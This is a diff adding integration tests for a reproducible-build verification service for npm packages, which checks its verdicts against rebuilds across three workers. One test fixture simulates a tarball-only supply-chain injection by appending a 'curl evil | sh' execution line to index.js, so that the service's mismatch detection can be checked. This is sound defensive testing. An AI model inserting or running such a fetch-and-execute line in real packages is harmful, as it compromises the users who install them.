@@ -1,0 +1,117 @@
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { execa } from 'execa';
+import { makeGitPackage, packageJson } from '../fixtures/git-package.js';
+import { publishFromGit } from '../fixtures/publish.js';
+import { Farm, ROOT } from './farm.js';
+
+const INDEX = `'use strict';\nmodule.exports = function greet(name) {\n  return 'hello ' + name;\n};\n`;
+
+describe('verdicts on a farm of three workers (N=3, M=2)', () => {
+  const farm = new Farm({ workers: 3, builders: 3, quorum: 2 });
+  beforeAll(() => farm.start(), 120_000);
+  afterAll(() => farm.stop(), 60_000);
+
+  it('calls a package packed by the same toolchain from its git tag reproducible, byte for byte', async () => {
+    const pkg = await makeGitPackage(join(farm.dir, 'src/greet'), { 'package.json': packageJson('greet', '1.0.0'), 'index.js': INDEX }, 'v1.0.0');
+    const { integrity } = await publishFromGit(farm.registry, pkg, { how: 'image' });
+    const view = await farm.submitAndDecide({ purl: 'pkg:npm/greet@1.0.0' });
+    expect(view.verdict?.verdict).toBe('reproducible');
+    expect(view.verdict?.agreeingCount).toBe(3);
+    expect(view.rebuilds).toHaveLength(3);
+    expect(new Set(view.rebuilds.map((r) => r.workerId)).size).toBe(3);
+    for (const r of view.rebuilds) {
+      expect(r.state).toBe('succeeded');
+      expect(r.matchesPublished).toBe('bitwise');
+      expect(r.source?.commit).toBe(pkg.commit);
+      expect(r.source?.ref).toBe('v1.0.0');
+      expect(r.imageDigest).toMatch(/^sha256:[0-9a-f]{64}$/);
+      expect(r.logUrl).toBeDefined();
+    }
+    expect(`sha512-${Buffer.from(view.published!.sha512, 'hex').toString('base64')}`).toBe(integrity);
+  });
+
+  it('calls a tarball packed by another npm and node equivalent, naming the stabilizers that were needed', async () => {
+    // the host packs with its own node/npm (other zlib, other npm), the builder image with Debian's:
+    // the files are the same, the gzip stream is not
+    const pkg = await makeGitPackage(join(farm.dir, 'src/greet-host'), { 'package.json': packageJson('greet-host', '2.0.0'), 'index.js': INDEX }, 'v2.0.0');
+    await publishFromGit(farm.registry, pkg, { how: 'host' });
+    const view = await farm.submitAndDecide({ purl: 'pkg:npm/greet-host@2.0.0' });
+    expect(view.verdict?.verdict).toBe('equivalent');
+    expect(view.verdict?.stabilizers.length).toBeGreaterThan(0);
+    expect(view.verdict?.stabilizers).toContain('gzip-level');
+    for (const r of view.rebuilds) expect(r.matchesPublished).toBe('stabilized');
+  });
+
+  it('flags a tarball-only injection as mismatch while all builders agree with each other', async () => {
+    const pkg = await makeGitPackage(join(farm.dir, 'src/xzlike'), { 'package.json': packageJson('xzlike', '5.6.0'), 'index.js': INDEX }, 'v5.6.0');
+    await publishFromGit(farm.registry, pkg, { how: 'image', tamper: { file: 'index.js', append: "require('child_process').exec('curl evil | sh');\n" } });
+    const view = await farm.submitAndDecide({ purl: 'pkg:npm/xzlike@5.6.0' });
+    expect(view.verdict?.verdict).toBe('mismatch');
+    expect(view.verdict?.agreeingCount).toBe(3);
+    const digests = new Set(view.rebuilds.map((r) => r.artifact?.sha256));
+    expect(digests.size).toBe(1);
+    expect(view.verdict?.rebuiltSha256).toBe([...digests][0]);
+    for (const r of view.rebuilds) expect(r.matchesPublished).toBe('no');
+  });
+
+  it('calls a build that writes the time and a random value into its output unreproducible', async () => {
+    const pkg = await makeGitPackage(
+      join(farm.dir, 'src/stamp'),
+      {
+        'package.json': packageJson('stamp', '0.3.0', { scripts: { build: 'node build.js' } }),
+        'build.js': `require('fs').writeFileSync('stamp.json', JSON.stringify({ at: Date.now(), nonce: Math.random() }));\n`,
+        'index.js': INDEX,
+      },
+      'v0.3.0',
+    );
+    await publishFromGit(farm.registry, pkg, { how: 'image' });
+    const view = await farm.submitAndDecide({ purl: 'pkg:npm/stamp@0.3.0' });
+    expect(view.verdict?.verdict).toBe('unreproducible');
+    expect(new Set(view.rebuilds.map((r) => r.artifact?.stabilizedSha256)).size).toBe(3);
+  });
+
+  it('calls a release whose build fails failed, and keeps every log', async () => {
+    const pkg = await makeGitPackage(
+      join(farm.dir, 'src/broken'),
+      { 'package.json': packageJson('broken', '1.0.1', { scripts: { build: 'node -e "console.error(\'compile error: missing semicolon\'); process.exit(3)"' } }), 'index.js': INDEX },
+      'v1.0.1',
+    );
+    await publishFromGit(farm.registry, pkg, { how: 'host' });
+    const view = await farm.submitAndDecide({ purl: 'pkg:npm/broken@1.0.1' });
+    expect(view.verdict?.verdict).toBe('failed');
+    for (const r of view.rebuilds) {
+      expect(r.state).toBe('failed');
+      expect(r.reason).toBe('build-error');
+      const log = await (await farm.request('GET', r.logUrl!)).text();
+      expect(log).toContain('compile error: missing semicolon');
+      expect(log).toContain('FAILED (build-error)');
+    }
+  });
+
+  it('calls a release with no matching tag failed with reason source-not-found', async () => {
+    const pkg = await makeGitPackage(join(farm.dir, 'src/untagged'), { 'package.json': packageJson('untagged', '3.1.4'), 'index.js': INDEX }, 'release-3.1.4');
+    await publishFromGit(farm.registry, pkg, { how: 'host' });
+    const view = await farm.submitAndDecide({ purl: 'pkg:npm/untagged@3.1.4' });
+    expect(view.verdict?.verdict).toBe('failed');
+    for (const r of view.rebuilds) expect(r.reason).toBe('source-not-found');
+    // the same release verifies once the submitter names the tag
+    const again = await farm.submitAndDecide({ purl: 'pkg:npm/untagged@3.1.4', ref: 'release-3.1.4' });
+    expect(again.verdict?.verdict).toBe('equivalent');
+    const pkgView = await farm.json<{ releases: { id: string }[] }>('GET', `/v1/packages/${encodeURIComponent('pkg:npm/untagged@3.1.4')}`);
+    expect(pkgView.releases.map((r) => r.id)).toEqual([again.id, view.id]);
+  });
+
+  it('lets the CLI submit, follow and report a verdict as JSON with exit code 0', async () => {
+    const pkg = await makeGitPackage(join(farm.dir, 'src/cli-demo'), { 'package.json': packageJson('cli-demo', '1.2.3'), 'index.js': INDEX }, 'v1.2.3');
+    await publishFromGit(farm.registry, pkg, { how: 'image' });
+    const res = await execa('node', [join(ROOT, 'packages/cli/bin/quorum.js'), 'submit', 'pkg:npm/cli-demo@1.2.3', '--wait', '--json', '--server', farm.url], { reject: false });
+    expect(res.exitCode, res.stderr).toBe(0);
+    const out = JSON.parse(res.stdout) as { verdict: string; rebuilds: unknown[] };
+    expect(out.verdict).toBe('reproducible');
+    expect(out.rebuilds).toHaveLength(3);
+    const status = await execa('node', [join(ROOT, 'packages/cli/bin/quorum.js'), 'status', 'pkg:npm/cli-demo@1.2.3', '--json', '--server', farm.url], { reject: false });
+    expect(status.exitCode).toBe(0);
+    expect((JSON.parse(status.stdout) as { verdict: string }).verdict).toBe('reproducible');
+  });
+});
